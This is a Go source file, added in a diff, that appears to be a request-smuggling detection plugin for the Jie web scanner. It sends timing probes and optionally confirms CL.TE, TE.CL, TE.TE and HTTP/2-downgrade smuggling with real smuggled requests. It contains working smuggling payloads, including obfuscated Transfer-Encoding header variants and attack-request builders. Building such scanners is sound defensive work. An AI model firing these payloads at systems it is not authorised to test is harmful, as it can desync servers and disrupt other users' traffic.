@@ -0,0 +1,330 @@
+package smuggling
+
+import (
+    "fmt"
+    "github.com/yhy0/Jie/conf"
+    "github.com/yhy0/Jie/pkg/input"
+    "github.com/yhy0/Jie/pkg/output"
+    "github.com/yhy0/Jie/pkg/protocols/httpx"
+    "github.com/yhy0/Jie/pkg/util"
+    "github.com/yhy0/logging"
+    "net/url"
+    "strings"
+    "sync"
+    "time"
+)
+
+/**
+   @author yhy
+   @since 2024/6/20
+   @desc HTTP 请求走私检测 CL.TE、TE.CL、TE.TE、H2.CL、H2.TE
+        1. 基于时间: 构造前后端解析长度不一致时后端会等待剩余数据的请求，后端超时说明前后端使用了不同的方式解析请求体
+           CL.TE 检测为阳性时不再检测 TE.CL，TE.CL 的探测请求在 CL.TE 的目标上会污染后端连接
+        2. 差异响应确认: 走私一个指向不存在路径的完整请求，紧接着在同一个连接上发送自己的后续请求，后续请求变成 404 说明走私成功
+           走私的请求长度完整并且带有 Connection: close，后端响应后关闭连接，不会在连接上留下拼接其他用户请求的前缀
+           这一步需要配置 differential 开启(嵌入使用时为 Scope.Differential)，安全模式下不进行
+        参考 https://portswigger.net/research/http-desync-attacks-request-smuggling-reborn
+            https://portswigger.net/research/http2
+**/
+
+type Plugin struct {
+    SeenRequests sync.Map
+}
+
+const userAgent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"
+
+// 探测请求的超时时间，后端等待剩余数据超过这个时间认为存在走私
+const probeTimeout = 10 * time.Second
+
+// teVariant Transfer-Encoding 头的混淆方式，前端、后端只有一方能识别时就可以走私
+type teVariant struct {
+    name   string
+    header string
+}
+
+var teVariants = []teVariant{
+    {"plain", "Transfer-Encoding: chunked"},
+    {"space-before-colon", "Transfer-Encoding : chunked"},
+    {"tab", "Transfer-Encoding:\tchunked"},
+    {"leading-space", " Transfer-Encoding: chunked"},
+    {"duplicate", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"},
+    {"xchunked", "Transfer-Encoding: xchunked"},
+    {"lowercase", "transfer-encoding: chunked"},
+    {"quoted", "Transfer-Encoding: \"chunked\""},
+    {"line-folding", "Transfer-Encoding:\r\n chunked"},
+    {"newline-value", "X: X\nTransfer-Encoding: chunked"},
+}
+
+func (p *Plugin) Scan(target string, path string, in *input.CrawlResult, client *httpx.Client) {
+    if p.IsScanned(in.UniqueId) {
+        return
+    }
+    
+    u, err := url.Parse(target)
+    if err != nil {
+        return
+    }
+    host := u.Host
+    if path == "" {
+        path = "/"
+    }
+    
+    // 基准请求，目标响应慢或者无法正常响应时不检测，否则基于时间的检测会误报
+    resps, err := client.Raw(target, [][]byte{control(host, path)}, probeTimeout)
+    if err != nil || len(resps) == 0 || resps[0].Timeout || resps[0].Duration > probeTimeout/3 {
+        logging.Logger.Debugln("[smuggling] baseline failed", target, err)
+        return
+    }
+    
+    if p.http1(target, host, path, client) {
+        return
+    }
+    p.http2(target, host, path, client)
+}
+
+// http1 检测 CL.TE、TE.CL，TE 头使用不同的混淆方式，非 plain 方式检测到时为 TE.TE
+func (p *Plugin) http1(target, host, path string, client *httpx.Client) bool {
+    for _, v := range teVariants {
+        kind := "CL.TE"
+        probe := clTeProbe(host, path, v.header)
+        if !p.timing(target, host, path, probe, client) {
+            kind = "TE.CL"
+            probe = teClProbe(host, path, v.header)
+            if !p.timing(target, host, path, probe, client) {
+                continue
+            }
+        }
+        if v.name != "plain" {
+            kind = "TE.TE (" + v.name + ") " + kind
+        }
+        
+        request := fmt.Sprintf("%s\n\n----- control request, responded normally -----\n\n%s", probe, control(host, path))
+        description := fmt.Sprintf("HTTP request smuggling %s: the back-end timed out waiting for the rest of a request whose length is ambiguous between Content-Length and Transfer-Encoding, while a well-formed request responded normally.", kind)
+        
+        level := output.Medium
+        if client.Scope.SmugglingDifferential() {
+            if evidence := p.confirm(target, host, path, v.header, strings.HasSuffix(kind, "CL.TE"), client); evidence != "" {
+                request = evidence
+                description += " Confirmed: a smuggled request turned our own follow-up request on the same connection into a 404."
+                level = output.High
+            }
+        }
+        
+        report(target, kind, v.header, request, description, level, client)
+        return true
+    }
+    return false
+}
+
+// timing 探测请求超时，并且重复一次仍然超时、正常请求不超时时认为存在走私
+func (p *Plugin) timing(target, host, path string, probe []byte, client *httpx.Client) bool {
+    for i := 0; i < 2; i++ {
+        resps, err := client.Raw(target, [][]byte{probe}, probeTimeout)
+        if err != nil || len(resps) == 0 || !resps[0].Timeout {
+            return false
+        }
+        resps, err = client.Raw(target, [][]byte{control(host, path)}, probeTimeout)
+        if err != nil || len(resps) == 0 || resps[0].Timeout {
+            return false
+        }
+    }
+    return true
+}
+
+// confirm 走私一个指向随机不存在路径的请求，紧接着在同一个连接上发送正常请求，正常请求变成 404 说明走私成功
+// 返回攻击请求、后续请求以及后续请求的响应作为证据
+func (p *Plugin) confirm(target, host, path, te string, clte bool, client *httpx.Client) string {
+    follow := control(host, path)
+    
+    // 正常请求本身就是 404 时无法区分
+    resps, err := client.Raw(target, [][]byte{follow}, probeTimeout)
+    if err != nil || len(resps) == 0 || resps[0].Timeout || resps[0].StatusCode == 404 {
+        return ""
+    }
+    
+    notFound := "/" + util.RandomLetterNumbers(12)
+    var attack []byte
+    if clte {
+        attack = clTeAttack(host, path, te, notFound)
+    } else {
+        attack = teClAttack(host, path, te, notFound)
+    }
+    
+    resps, err = client.Raw(target, [][]byte{attack, follow}, probeTimeout)
+    if err != nil || len(resps) < 2 || resps[1].Timeout || resps[1].StatusCode != 404 {
+        return ""
+    }
+    
+    return fmt.Sprintf("%s\n\n----- follow-up request on the same connection -----\n\n%s\n\n----- follow-up response -----\n\n%s", attack, follow, resps[1].Raw)
+}
+
+// http2 检测 H2.CL、H2.TE，前端 HTTP/2 降级为 HTTP/1.1 转发到后端时，如果保留了 content-length、transfer-encoding 头就可能走私
+func (p *Plugin) http2(target, host, path string, client *httpx.Client) {
+    if !strings.HasPrefix(target, "https") {
+        return
+    }
+    
+    base := &httpx.H2Request{Headers: h2Headers(host, path, "GET")}
+    resps, err := client.RawH2(target, []*httpx.H2Request{base}, probeTimeout)
+    if err != nil || len(resps) == 0 || resps[0].Timeout {
+        return
+    }
+    baseStatus := resps[0].StatusCode
+    
+    probes := []struct {
+        kind   string
+        header [2]string
+        body   string
+    }{
+        // content-length 大于实际数据，后端按照 content-length 等待剩余数据
+        {"H2.CL", [2]string{"content-length", "10"}, "x=1"},
+        // 不完整的 chunked 数据，后端按照 chunked 等待后续 chunk
+        {"H2.TE", [2]string{"transfer-encoding", "chunked"}, "1\r\nA\r\n"},
+    }
+    
+    for _, pb := range probes {
+        probe := &httpx.H2Request{
+            Headers: append(h2Headers(host, path, "POST"), [2]string{"content-type", "application/x-www-form-urlencoded"}, pb.header),
+            Body:    []byte(pb.body),
+        }
+        
+        vulnerable := true
+        for i := 0; i < 2 && vulnerable; i++ {
+            resps, err = client.RawH2(target, []*httpx.H2Request{probe}, probeTimeout)
+            if err != nil || len(resps) == 0 || !resps[0].Timeout {
+                vulnerable = false
+                break
+            }
+            resps, err = client.RawH2(target, []*httpx.H2Request{base}, probeTimeout)
+            if err != nil || len(resps) == 0 || resps[0].Timeout {
+                vulnerable = false
+            }
+        }
+        if !vulnerable {
+            continue
+        }
+        
+        request := fmt.Sprintf("%s\n\n----- control request, responded normally -----\n\n%s", h2Dump(probe), h2Dump(base))
+        description := fmt.Sprintf("HTTP/2 downgrade request smuggling %s: the front-end forwarded the %s header to an HTTP/1.1 back-end, which timed out waiting for the rest of the body.", pb.kind, pb.header[0])
+        level := output.Medium
+        
+        if client.Scope.SmugglingDifferential() && baseStatus != 404 {
+            // 走私一个指向不存在路径的完整请求，在同一个连接上的下一个 stream 中发送正常请求
+            prefix := smuggled(host, "/"+util.RandomLetterNumbers(12), 0)
+            attack := &httpx.H2Request{Headers: append(h2Headers(host, path, "POST"), [2]string{"content-type", "application/x-www-form-urlencoded"})}
+            if pb.kind == "H2.CL" {
+                attack.Headers = append(attack.Headers, [2]string{"content-length", "0"})
+                attack.Body = []byte(prefix)
+            } else {
+                attack.Headers = append(attack.Headers, pb.header)
+                attack.Body = []byte("0\r\n\r\n" + prefix)
+            }
+            resps, err = client.RawH2(target, []*httpx.H2Request{attack, base}, probeTimeout)
+            if err == nil && len(resps) == 2 && !resps[1].Timeout && resps[1].StatusCode == 404 {
+                request = fmt.Sprintf("%s\n\n----- follow-up request on the same connection -----\n\n%s\n\n----- follow-up response -----\n\n%s", h2Dump(attack), h2Dump(base), resps[1].Raw)
+                description += " Confirmed: a smuggled request turned our own follow-up request on the same connection into a 404."
+                level = output.High
+            }
+        }
+        
+        report(target, pb.kind, pb.header[0]+": "+pb.header[1], request, description, level, client)
+        return
+    }
+}
+
+// control 格式正确的请求
+func control(host, path string) []byte {
+    return []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", path, host, userAgent))
+}
+
+func post(host, path, te string, cl int, body string) []byte {
+    return []byte(fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n%s\r\n\r\n%s", path, host, userAgent, cl, te, body))
+}
+
+// clTeProbe 前端按照 Content-Length 只转发 "1\r\nA"，后端按照 chunked 等待剩余数据
+// 前端按照 chunked 解析时 X 不是合法的 chunk 长度，会直接拒绝，不会污染连接
+func clTeProbe(host, path, te string) []byte {
+    return post(host, path, te, 4, "1\r\nA\r\nX")
+}
+
+// teClProbe 前端按照 chunked 只转发 "0\r\n\r\n"，后端按照 Content-Length 等待剩余数据
+func teClProbe(host, path, te string) []byte {
+    return post(host, path, te, 6, "0\r\n\r\nX")
+}
+
+// smuggled 走私的完整请求，cl 为请求体的长度，后端响应后关闭连接
+func smuggled(host, notFound string, cl int) string {
+    return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Length: %d\r\n\r\n", notFound, host, cl)
+}
+
+// clTeAttack 前端按照 Content-Length 转发整个请求体，后端按照 chunked 在 0 chunk 处结束，剩余部分作为下一个请求
+func clTeAttack(host, path, te, notFound string) []byte {
+    body := "0\r\n\r\n" + smuggled(host, notFound, 0)
+    return post(host, path, te, len(body), body)
+}
+
+// teClAttack 前端按照 chunked 转发整个请求体，后端按照 Content-Length 只读取 chunk 长度行，chunk 内容作为下一个请求
+// 走私请求的 Content-Length 正好是 chunk 后面的 "\r\n0\r\n\r\n"，不会吞掉后续请求
+func teClAttack(host, path, te, notFound string) []byte {
+    trailer := "\r\n0\r\n\r\n"
+    req := smuggled(host, notFound, len(trailer))
+    size := fmt.Sprintf("%x", len(req))
+    return post(host, path, te, len(size)+2, size+"\r\n"+req+trailer)
+}
+
+func h2Headers(host, path, method string) [][2]string {
+    return [][2]string{
+        {":method", method},
+        {":path", path},
+        {":authority", host},
+        {":scheme", "https"},
+        {"user-agent", userAgent},
+    }
+}
+
+// h2Dump 以文本形式展示 HTTP/2 请求
+func h2Dump(r *httpx.H2Request) string {
+    var sb strings.Builder
+    for _, h := range r.Headers {
+        sb.WriteString(h[0] + ": " + h[1] + "\r\n")
+    }
+    sb.WriteString("\r\n")
+    sb.Write(r.Body)
+    return sb.String()
+}
+
+func report(target, kind, payload, request, description, level string, client *httpx.Client) {
+    client.Report(output.VulMessage{
+        DataType: "web_vul",
+        Plugin:   "HTTP Request Smuggling",
+        VulnData: output.VulnData{
+            CreateTime:  time.Now().Format("2006-01-02 15:04:05"),
+            Target:      target,
+            Method:      "POST",
+            Param:       kind,
+            Payload:     payload,
+            Request:     request,
+            Description: description,
+        },
+        Level: level,
+    })
+}
+
+func (p *Plugin) IsScanned(key string) bool {
+    if key == "" {
+        return false
+    }
+    if _, ok := p.SeenRequests.Load(key); ok {
+        return true
+    }
+    p.SeenRequests.Store(key, true)
+    return false
+}
+
+func (p *Plugin) Name() string {
+    return "smuggling"
+}
+
+func (p *Plugin) Risk() string {
+    return conf.RiskIntrusive
+}